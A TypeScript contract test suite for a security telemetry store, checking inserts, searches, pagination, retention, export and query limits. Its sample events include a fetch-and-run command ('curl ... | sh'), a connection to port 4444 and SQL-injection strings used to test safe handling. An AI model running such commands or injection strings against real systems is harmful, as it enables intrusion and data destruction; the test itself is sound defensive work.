/** What every engine of the telemetry store must do: the same promises in the process and on a server. */
import { randomUUID } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Conditions } from './conditions.ts'
import type { EventKey, EventLine, TelemetryStore } from './telemetry-store.ts'

const epoch = randomUUID()
const AGENT = 'abcdefghijklmnopqrstuvwxyz'
const SHA = 'ab'.repeat(32)

/** Events that a search under test looks at first: so few that it has to look again and again. */
export const LOOK_FIRST_AT = 40

export interface StoreUnderTest {
  /** Over the same data each time, and with `LOOK_FIRST_AT`. */
  open(): Promise<TelemetryStore>
  end(): Promise<void>
}

export function telemetryContract(name: string, start: () => Promise<StoreUnderTest>): void {
  describe(`the telemetry store, ${name}`, () => {
    let under: StoreUnderTest
    let store: TelemetryStore
    beforeAll(async () => {
      under = await start()
      store = await under.open()
    })
    afterAll(async () => {
      await store.close()
      await under.end()
    })

    it('stores a block once, however often it is inserted: again, after a restart, and across midnight', async () => {
      const late = '2026-03-02T00:00:00.001Z'
      const block = Array.from({ length: 2_000 }, (_, i) => line(i + 1, {}, i % 2 ? { ingestedAt: late } : {}))
      await store.insert('block-1', block)
      await store.insert('block-1', block)
      expect(await store.count()).toBe(2_000)
      await store.close()
      store = await under.open()
      await store.insert('block-1', block)
      expect(await store.count()).toBe(2_000)
      await store.insert('block-2', [line(2_001, {})])
      expect(await store.count(AGENT)).toBe(2_001)
      expect(await store.count('zzzzzzzzzzzzzzzzzzzzzzzzzz')).toBe(0)
    })

    it('finds by field without case, by wildcard, by text, by time and by host, and takes nothing for a command of its own', async () => {
      const tricky = `it's 100% "_odd_" \\ {p0:String} ; drop table x -- é\u0000`
      await store.insert('block-3', [
        line(1, { process: { name: 'Curl', pid: 77, command_line: 'curl -s http://10.0.0.9/x | sh' } }, { class: 'a' }),
        line(2, { process: { name: 'bash', command_line: tricky } }, { class: 'a' }),
        line(3, { '@timestamp': '2027-01-01T00:00:00Z', destination: { ip: '10.0.0.9', port: 4444 } }, { class: 'a' }),
      ])
      const seqs = async (query: Omit<Parameters<TelemetryStore['search']>[0], 'limit'>) =>
        (await store.search({ ...query, limit: 10 })).map((event) => event.event.id?.split(':').slice(2).join(':'))
      expect(await seqs({ fields: { 'process.name': 'cURL' } })).toEqual(['a:1'])
      expect(await seqs({ fields: { 'process.command_line': '*10.0.0.9*SH' } })).toEqual(['a:1'])
      expect(await seqs({ fields: { 'process.command_line': tricky } })).toEqual(['a:2'])
      expect(await seqs({ fields: { 'process.command_line': 'it?s*' } })).toEqual([])
      expect(await seqs({ fields: { 'process.command_line': `it's 100% "_odd_" \\*` } })).toEqual(['a:2'])
      expect(await seqs({ fields: { 'process.pid': '77' } })).toEqual(['a:1'])
      expect(await seqs({ fields: { 'destination.port': '44*' } })).toEqual(['a:3'])
      expect(await seqs({ text: '"_ODD_"' })).toEqual(['a:2'])
      expect(await seqs({ since: '2026-06-01T00:00:00Z' })).toEqual(['a:3'])
      expect(await seqs({ class: 'a', until: '2026-06-01T00:00:00Z', fields: { 'host.id': AGENT } })).toEqual([
        'a:2',
        'a:1',
      ])
      expect(await seqs({ agentId: `${AGENT}' or 1=1 --` })).toEqual([])
      await expect(seqs({ fields: { 'raw) or (1': 'x' } })).rejects.toMatchObject({ code: 'unknown_field' })
      const [found] = await store.search({ fields: { 'process.name': 'curl' }, limit: 1 })
      expect(found).toMatchObject({ host: { id: AGENT }, event: { ingested: '2026-03-01T10:01:00.000Z' } })
    })

    it('takes several events of one stream as one text, each under its number', async () => {
      const messages = ['together: plain', String.raw`together: \ and C:\temp`, 'together: é\t\n']
      const lines = messages.map((message, i) => line(i, { message }, { class: 't' }))
      const json = Buffer.from(lines.map((each) => Buffer.from(each.json).toString('utf8')).join('\n'))
      const block = { ...line(7, {}, { class: 't' }), json }
      await store.insert('together', [{ ...block, seqs: [7, 9, 2 ** 40 + 1] }])
      const found = await store.search({ class: 't', limit: 5 })
      expect(found.map(({ event, message }) => [event.id?.split(':').at(-1), message])).toEqual([
        [String(2 ** 40 + 1), messages[2]],
        ['9', messages[1]],
        ['7', messages[0]],
      ])
    })

    it('believes the connection, not the text, about whose event it is', async () => {
      await store.insert('block-4', [line(1, { host: { id: 'z'.repeat(26) }, message: 'liar' }, { class: 'b' })])
      expect(await store.search({ text: 'liar', limit: 5 })).toMatchObject([{ host: { id: AGENT } }])
    })

    it('tells how common something was before a time', async () => {
      const other = 'b'.repeat(26)
      await store.insert('block-5', [
        line(1, { process: { executable: '/bin/x' } }, { class: 'c' }),
        line(2, { process: { executable: '/bin/x' } }, { class: 'c', agentId: other }),
        line(3, { '@timestamp': '2027-01-01T00:00:00Z', process: { executable: '/bin/x' } }, { class: 'c' }),
      ])
      expect(await store.prevalence('process.executable', '/bin/X', '2026-06-01T00:00:00Z')).toEqual({
        events: 2,
        hosts: 2,
      })
    })

    it('keeps an event from the year 1970 or 2261 without a partition of its own', async () => {
      await store.insert('block-6', [
        line(1, { '@timestamp': '1970-01-01T00:00:00Z', message: 'edge' }, { class: 'd' }),
        line(2, { '@timestamp': '2261-12-31T23:59:59.999999999Z', message: 'edge' }, { class: 'd' }),
      ])
      const found = await store.search({ text: 'edge', limit: 5 })
      expect(found.map((event) => event['@timestamp'])).toEqual([
        '2261-12-31T23:59:59.999999999Z',
        '1970-01-01T00:00:00Z',
      ])
    })

    it('gives pages that fit together, newest and oldest first, though many events share a time', async () => {
      const at = '2026-05-01T00:00:00.000Z'
      await store.insert(
        'pages',
        Array.from({ length: 250 }, (_, i) =>
          line(
            i,
            { '@timestamp': i % 3 === 0 ? '2026-05-01T00:00:01.000Z' : at, message: 'paged' },
            { class: `p${i % 2}` },
          ),
        ),
      )
      const conditions = new Conditions()
      const where = conditions.statement(conditions.contains('paged'))
      const whole: Record<string, string[]> = {}
      for (const order of ['newest', 'oldest'] as const) {
        const seen: string[] = []
        let after: EventKey | undefined
        for (;;) {
          const page = await store.find({ where, order, limit: 37, ...(after && { after }) })
          if (!page.ok) throw new Error(page.why)
          seen.push(...page.value.map(({ event }) => event.event.id ?? ''))
          after = page.value.at(-1)?.key
          if (page.value.length < 37) break
        }
        expect(new Set(seen).size).toBe(250)
        whole[order] = seen
      }
      expect(whole['newest']).toEqual(whole['oldest']?.toReversed())
    })

    it.each(['newest', 'oldest'] as const)(
      'finds the %s first over many days, also those that came days after they happened or claim to be of tomorrow',
      async (order) => {
        const day = (n: number) => `2026-06-${String(n).padStart(2, '0')}`
        for (let n = 1; n <= 8; n++)
          await store.insert(
            `days-${order}-${n}`,
            Array.from({ length: 30 }, (_, i) => {
              // Of each day one is of long before, one of another day, and one of a clock that is ahead.
              const of = i === 7 ? '2020-01-01' : i === 8 ? day(((n * 5) % 8) + 1) : i === 9 ? '2026-07-01' : day(n)
              const time = `${of}T${String((n * 7 + i) % 24).padStart(2, '0')}:00:00.000Z`
              const message = `daily${order}${i % 3 === 0 ? ' third' : ''}${i === 9 && n % 4 === 0 ? ' rare' : ''}`
              return line(
                n * 100 + i,
                { '@timestamp': time, message },
                { class: 'w', ingestedAt: `${day(n)}T23:00:00.000Z` },
              )
            }),
          )
        const way = order === 'newest' ? 'desc' : 'asc'
        for (const [word, count] of Object.entries({ [`daily${order}`]: 240, third: 80, rare: 2 })) {
          const conditions = new Conditions()
          const where = conditions.statement(`${conditions.words(`daily${order}`)} and ${conditions.words(word)}`)
          const truth = await store.select<{ seq: number }>({
            sql: `select toFloat64(seq) as seq from firebreak.events where ${where.sql}
              order by time ${way}, agent_id ${way}, epoch ${way}, class ${way}, seq ${way}`,
            params: where.params,
          })
          if (!truth.ok) throw new Error(truth.why)
          expect(truth.value.length).toBe(count)
          for (const limit of [11, 50, 1_000]) {
            const found: number[] = []
            let after: EventKey | undefined
            for (;;) {
              const page = await store.find({ where, order, limit, ...(after && { after }) })
              if (!page.ok) throw new Error(page.why)
              found.push(...page.value.map(({ key }) => key.seq))
              after = page.value.at(-1)?.key
              if (page.value.length < limit || found.length >= 30) break
            }
            expect(found, `${word} by ${limit}`).toEqual(truth.value.slice(0, found.length).map(({ seq }) => seq))
            expect(found.length).toBeGreaterThanOrEqual(Math.min(count, 30))
          }
          // With a hint where they are expected the same is found.
          const nearMs = Date.parse(order === 'newest' ? '2026-06-06T00:00:00Z' : '2026-06-03T00:00:00Z')
          const bound = new Conditions()
          const bounded = bound.statement(
            `${bound.words(`daily${order}`)} and ${bound.words(word)} and ${bound.compareTime('@timestamp', order === 'newest' ? '<=' : '>=', nearMs)}`,
          )
          const all = await store.find({ where: bounded, order, limit: 1_000 })
          const near = await store.find({ where: bounded, order, limit: 5, nearMs })
          if (!all.ok || !near.ok) throw new Error('a search was refused')
          expect(near.value.map(({ key }) => key.seq)).toEqual(all.value.slice(0, 5).map(({ key }) => key.seq))
        }
      },
      60_000,
    )

    it('remembers when and where something was first and last seen', async () => {
      const other = 'c'.repeat(26)
      const process = { executable: '/opt/Seen', hash: { sha256: SHA } }
      const block = [
        line(1, { '@timestamp': '2026-04-01T00:00:00Z', process }, { class: 's' }),
        line(
          2,
          { '@timestamp': '2026-04-03T00:00:00Z', process, file: { path: '/x', hash: { sha256: SHA } } },
          { class: 's' },
        ),
        line(3, { '@timestamp': '2026-04-02T00:00:00Z', process }, { class: 't', agentId: other }),
      ]
      await store.insert('seen', block)
      await store.insert('seen', block)
      expect(await store.seen('hash', SHA.toUpperCase())).toMatchObject({
        first: '2026-04-01T00:00:00.000Z',
        last: '2026-04-03T00:00:00.000Z',
        events: 3,
        hosts: 2,
      })
      expect(await store.seen('executable', '/opt/Seen')).toMatchObject({ events: 3, hosts: 2 })
      expect(await store.seen('hash', 'cd'.repeat(32))).toBeUndefined()
      expect(await store.seen('address', SHA)).toBeUndefined()
    })

    it('exports every event that a search finds, as lines and as Parquet', async () => {
      const conditions = new Conditions()
      const where = conditions.statement(conditions.equals('event.category', 'PROCESS'))
      const lines = await textOf(store.export({ where, order: 'oldest' }, 'ndjson'))
      const events = lines
        .trimEnd()
        .split('\n')
        .map((text) => JSON.parse(text) as { host: { id: string }; event: { id: string } })
      expect(events.length).toBe(await store.count())
      expect(events[0]).toMatchObject({
        host: { id: expect.any(String) as string },
        event: { id: expect.stringContaining(epoch) as string },
      })
      const parquet = await bytesOf(store.export({ where, order: 'newest', limit: 10 }, 'parquet'))
      expect(parquet.subarray(0, 4).toString()).toBe('PAR1')
      expect(parquet.subarray(-4).toString()).toBe('PAR1')
      expect(parquet.includes('process.command_line')).toBe(true)
    })

    it('ends an export that fails with an error, and never as if it were whole', async () => {
      const where = { sql: "throwIf(class = 'process', 'refused') = 0", params: {} }
      await expect(bytesOf(store.export({ where, order: 'oldest' }, 'ndjson'))).rejects.toMatchObject({
        code: 'export_failed',
      })
    })

    it.each([
      [
        'too long',
        { sql: 'select count() from numbers(1e12) where not ignore(sipHash64(number))', params: {} },
        { timeoutMs: 300 },
        'too_long',
      ],
      [
        'too much memory',
        { sql: 'select length(groupArray(toString(number))) from numbers(1e9)', params: {} },
        { memoryBytes: 50_000_000 },
        'too_much',
      ],
      ['too many rows', { sql: 'select number from numbers(1000)', params: {} }, { rows: 10 }, 'too_much'],
      [
        'too large an answer',
        { sql: "select concat(toString(number), repeat('x', 100000)) from numbers(1000)", params: {} },
        { bytes: 1_000_000 },
        'too_much',
      ],
    ] as const)('ends a search that takes %s, and goes on', async (_, statement, limits, code) => {
      expect(await store.select(statement, limits)).toMatchObject({ ok: false, code })
      expect(await store.count()).toBeGreaterThan(0)
    })

    it('takes events in and answers others while a heavy search runs', async () => {
      const heavy = store.select(
        { sql: 'select count() from numbers(1e12) where not ignore(sipHash64(number))', params: {} },
        { timeoutMs: 1_500 },
      )
      await sleep(50)
      const started = performance.now()
      await store.insert('while-heavy', [line(1, {}, { class: 'h' })])
      expect(await store.count()).toBeGreaterThan(0)
      expect(performance.now() - started).toBeLessThan(1_200)
      expect(await heavy).toMatchObject({ ok: false, code: 'too_long' })
    })

    it('says what it holds, lets go what has expired by class, and what is over the size by importance', async () => {
      const of = (day: string, name: string, token: string) =>
        store.insert(token, [line(1, { message: 'x' }, { ingestedAt: `${day}T10:00:00.000Z`, class: name })])
      for (const day of ['2025-01-01', '2025-01-20', '2025-01-30'])
        for (const name of ['process', 'file', 'network']) await of(day, name, `${day}${name}`)
      const now = Date.parse('2025-01-30T12:00:00Z')
      const held = async () =>
        (await store.stats()).days
          .filter(({ day }) => day < '2025-02-01')
          .map((part) => `${part.day.slice(8)} ${part.class} ${part.events}`)
      expect((await held()).length).toBe(9)
      const byAge = await store.retain({ days: { file: 5, process: 15 }, maxBytes: 1e15 }, now)
      expect(byAge.map((part) => `${part.day.slice(8)} ${part.class} ${part.events} ${part.why}`)).toEqual([
        '01 file 1 age',
        '01 process 1 age',
        '20 file 1 age',
      ])
      expect(await held()).toEqual([
        '01 network 1',
        '20 network 1',
        '20 process 1',
        '30 file 1',
        '30 network 1',
        '30 process 1',
      ])
      expect((await store.stats()).retainedSince).toMatchObject({ file: '2025-01-30', network: '2025-01-01' })
      const first = (await store.stats()).days.find(
        ({ day, class: name }) => day === '2025-01-01' && name === 'network',
      )
      const total = (await store.stats()).bytes
      const bySize = await store.retain({ days: {}, maxBytes: total - (first?.bytes ?? 0) }, now)
      expect(bySize).toMatchObject([{ day: '2025-01-01', class: 'network', why: 'size' }])
      // The day that is being written stays, whatever it weighs, and what is more important goes last.
      const rest = await store.retain({ days: {}, maxBytes: 1 }, now)
      expect(rest.map(({ day, class: name }) => `${day.slice(8)} ${name}`)).toEqual(['20 network', '20 process'])
      expect(await held()).toEqual(['30 file 1', '30 network 1', '30 process 1'])
      expect(await store.health()).toMatchObject({ ok: true })
    })
  })
}

function line(seq: number, event: Record<string, unknown>, more: Partial<EventLine> = {}): EventLine {
  const whole = {
    '@timestamp': `2026-03-01T10:00:${String(seq % 60).padStart(2, '0')}.000Z`,
    event: { category: ['process'], type: ['start'], action: 'process-started' },
    ...event,
  }
  return {
    agentId: AGENT,
    epoch,
    class: 'process',
    seq,
    ingestedAt: '2026-03-01T10:01:00.000Z',
    json: Buffer.from(JSON.stringify(whole)),
    ...more,
  }
}

async function bytesOf(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = []
  for await (const piece of pieces) all.push(piece)
  return Buffer.concat(all)
}

async function textOf(pieces: AsyncIterable<Uint8Array>): Promise<string> {
  return (await bytesOf(pieces)).toString('utf8')
}
